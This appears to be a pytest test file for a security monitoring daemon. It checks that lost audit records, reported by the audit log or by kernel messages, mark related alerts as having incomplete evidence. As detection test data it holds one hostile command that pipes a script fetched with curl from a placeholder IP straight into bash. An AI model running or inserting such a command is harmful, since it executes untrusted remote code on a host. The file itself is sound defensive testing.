"""From a loss in a log to the alerts of that time: whether it comes before them or after, they say that evidence is missing.

The whole live half but for webhooks: readers, our rules, incidents, pipeline, a real store.
"""

import asyncio
import json
from collections.abc import Iterator
from pathlib import Path

import pytest

from daemon.assembly import build_flow
from daemon.config import Alerts, Config, Webhook, read_rule_files
from daemon.detection.rules import ParsedRules, parse_rules
from daemon.enrichment.redact import Redactor
from daemon.events.readers import build_reader
from daemon.flow import Flow
from daemon.model import Alert, Checkpoint, Lines, Lost, Position
from daemon.pipeline import Pipeline
from daemon.state.store import SqliteStore
from daemon.telemetry import Board, Metrics
from tests.doubles.audit_lines import execve
from tests.doubles.values import T0

HOOKS = [
    Webhook(name="all", url="https://hooks.example/a", versions="all"),
    Webhook(name="explained", url="https://hooks.example/b"),
]
ATTACK = "curl -s http://203.0.113.9/x.sh | bash"
KERNEL = (
    "Nov 21 11:20:{:02} web-1 kernel: [ 1234.567890] audit: audit_lost={} audit_rate_limit=0 audit_backlog_limit=64\n"
)


@pytest.fixture(scope="module")
def rules() -> ParsedRules:
    return parse_rules(read_rule_files(["shipped"]))


@pytest.fixture
def store(tmp_path: Path) -> Iterator[SqliteStore]:
    store = SqliteStore(tmp_path, ballast_bytes=0)
    store.open()
    yield store
    store.close()


def a_flow(rules: ParsedRules, **formats: str) -> Flow:
    redactor = Redactor()
    readers = {
        name: build_reader(name, fmt, host="web-1", now=lambda: T0, usernames=str, redact=redactor.text)
        for name, fmt in (formats or {"audit": "auditd", "kern": "syslog"}).items()
    }
    return build_flow(Config(host="web-1"), rules, readers, redactor)


async def run(store: SqliteStore, flow: Flow, *items: Lines | Lost) -> None:
    """One life of the daemon: what is in the store, then these."""
    flow.restore(await store.snapshots())
    flow.resume(await store.live_incidents(100))
    pipeline = Pipeline(
        flow, store, alerts=Alerts(), webhooks=HOOKS, waits_for_memory=False, board=Board(lambda: 0.0),
        metrics=Metrics(), now=lambda: T0, monotonic=lambda: 0.0, sleep=asyncio.sleep, stored=lambda: None,
        no_room=lambda: None,
    )  # fmt: skip
    for item in items:
        await pipeline.emit(item)
    await pipeline.close()
    await pipeline.run()


def lines(source: str, text: str, start: int = 0) -> Lines:
    data = text.encode()
    at = Position(f"/{source}.log", "1:1", start)
    return Lines(source, data, at, Checkpoint(source, Position(at.path, "1:1", start + len(data))))


def audit(*events: tuple[int, float, str], node: str = "") -> str:
    """Programs started, each (number, seconds after T0, command)."""
    head = f"node={node} " if node else ""
    texts = [
        line
        for serial, after, command in events
        for line in execve(serial, "bash", "-c", command, at=f"{T0 + after:.3f}", pid=4300 + serial)
    ]
    return "".join(f"{head}{line}\n" for line in texts)


async def sent(store: SqliteStore) -> None:
    """Everything that is owed was accepted."""
    for hook in HOOKS:
        while (delivery := await store.due(hook.name, T0 + 100)) is not None:
            await store.begin(delivery.id, T0)
            await store.sent(delivery.id, T0)


async def versions(store: SqliteStore) -> list[Alert]:
    (attack,) = [one for one in await store.incidents(limit=50) if one.rule.title == "Download piped into a shell"]
    return await store.alerts(attack.id)


def said(alert: Alert) -> list[str]:
    return [gap.detail for gap in alert.gaps if (gap.part, gap.why) == ("evidence", "incomplete")]


async def test_a_loss_that_came_before_stands_in_the_alert(store: SqliteStore, rules: ParsedRules) -> None:
    text = audit((1, 0, "true"), (5, 1, "true"), (6, 9, ATTACK))
    await run(store, a_flow(rules), lines("audit", text))

    (alert,) = await versions(store)

    assert said(alert) == ["between 2026-11-21T11:20:00Z and 2026-11-21T11:20:01Z: 3 audit events never came"]


async def test_a_loss_that_is_noticed_later_becomes_the_next_version(store: SqliteStore, rules: ParsedRules) -> None:
    """Stored, shown, and owed to those who want versions that only add a gap."""
    flow = a_flow(rules)
    await run(store, flow, lines("audit", audit((1, 0, ATTACK))))
    await sent(store)
    await run(store, a_flow(rules), lines("audit", audit((3, 1, "true"), (4, 9, "true")), 5000))

    first, second = await versions(store)

    assert said(first) == []
    assert said(second) == ["between 2026-11-21T11:20:00Z and 2026-11-21T11:20:01Z: 1 audit events never came"]
    owed = {(row.webhook, row.alert.version) for row in await store.deliveries(first.incident_id)}
    assert owed == {("all", 1), ("explained", 1), ("all", 2)}


async def test_what_was_not_sent_yet_gets_the_gap_before_it_is(store: SqliteStore, rules: ParsedRules) -> None:
    text = audit((1, 0, ATTACK), (3, 1, "true"), (4, 9, "true"))
    await run(store, a_flow(rules), lines("audit", text))

    (alert,) = await versions(store)

    assert len(said(alert)) == 1


async def test_what_the_kernel_says_marks_the_alerts_of_the_audit_log(store: SqliteStore, rules: ParsedRules) -> None:
    """A08: no number is missing; only the kernel's log tells."""
    items = [lines("audit", audit((1, 0, "true"), (2, 5, ATTACK))), lines("kern", KERNEL.format(5, 59))]
    await run(store, a_flow(rules), *items)

    (alert,) = await versions(store)

    (detail,) = said(alert)
    assert detail.endswith("the kernel dropped 59 audit records")


@pytest.mark.parametrize(("after", "marked"), [(55.0, True), (65.0, False)])
async def test_the_margin_is_a_minute(store: SqliteStore, rules: ParsedRules, after: float, *, marked: bool) -> None:
    loss = Lost("audit", "audit_backlog", 3, T0)
    await run(store, a_flow(rules), loss, lines("audit", audit((1, after, ATTACK))))

    (alert,) = await versions(store)

    assert bool(said(alert)) == marked


async def test_the_loss_of_another_host_marks_nothing(store: SqliteStore, rules: ParsedRules) -> None:
    text = audit((1, 0, "true"), (5, 1, "true"), (6, 9, "true"), node="web-2") + audit((1, 0, "true"), (2, 9, ATTACK))
    await run(store, a_flow(rules), lines("audit", text))

    (alert,) = await versions(store)
    (lost,) = [one for one in await store.incidents(limit=50) if one.rule.title == "Audit records lost"]

    assert said(alert) == []
    assert lost.host == "web-2"


async def test_a_restart_forgets_no_loss(store: SqliteStore, rules: ParsedRules) -> None:
    await run(store, a_flow(rules), lines("audit", audit((1, 0, "true"), (5, 1, "true"), (6, 9, "true"))))
    await run(store, a_flow(rules), lines("audit", audit((7, 20, ATTACK)), 5000))

    (alert,) = await versions(store)

    assert len(said(alert)) == 1


async def test_the_alert_of_the_loss_itself_lacks_nothing(store: SqliteStore, rules: ParsedRules) -> None:
    await run(store, a_flow(rules), lines("audit", audit((1, 0, "true"), (5, 1, "true"), (6, 9, "true"))))

    (incident,) = await store.incidents(limit=50)

    assert incident.rule.title == "Audit records lost"
    assert [said(alert) for alert in await store.alerts(incident.id)] == [[]]


def kernel_entry(total: int, after: float) -> str:
    """What journald holds of the same message."""
    said = f"audit: audit_lost={total} audit_rate_limit=0 audit_backlog_limit=64"
    entry = {
        "__CURSOR": f"c{total}", "__REALTIME_TIMESTAMP": str(int((T0 + after) * 1e6)), "_HOSTNAME": "web-1",
        "_TRANSPORT": "kernel", "MESSAGE": said,
    }  # fmt: skip
    return json.dumps(entry) + "\n"


def test_what_the_kernel_says_in_several_logs_is_lost_once(rules: ParsedRules) -> None:
    """As on Debian: kern.log and syslog hold the same line, and the journal has it too."""
    flow, told, changes = a_flow(rules, kern="syslog", syslog="syslog", journal="journal"), [], []
    for second, total in enumerate((59, 73, 80), 5):
        text = KERNEL.format(second, total)
        items = [lines("kern", text, second), lines("syslog", text, second)]
        for outcome in map(flow.feed, [*items, lines("journal", kernel_entry(total, second + 0.7), second)]):
            told += [lost.count for lost in outcome.lost]
            changes += [change for change in outcome.changes if change.incident.rule.title == "Audit records lost"]
    assert told == [59, 14, 7]
    assert changes[-1].incident.count == 3
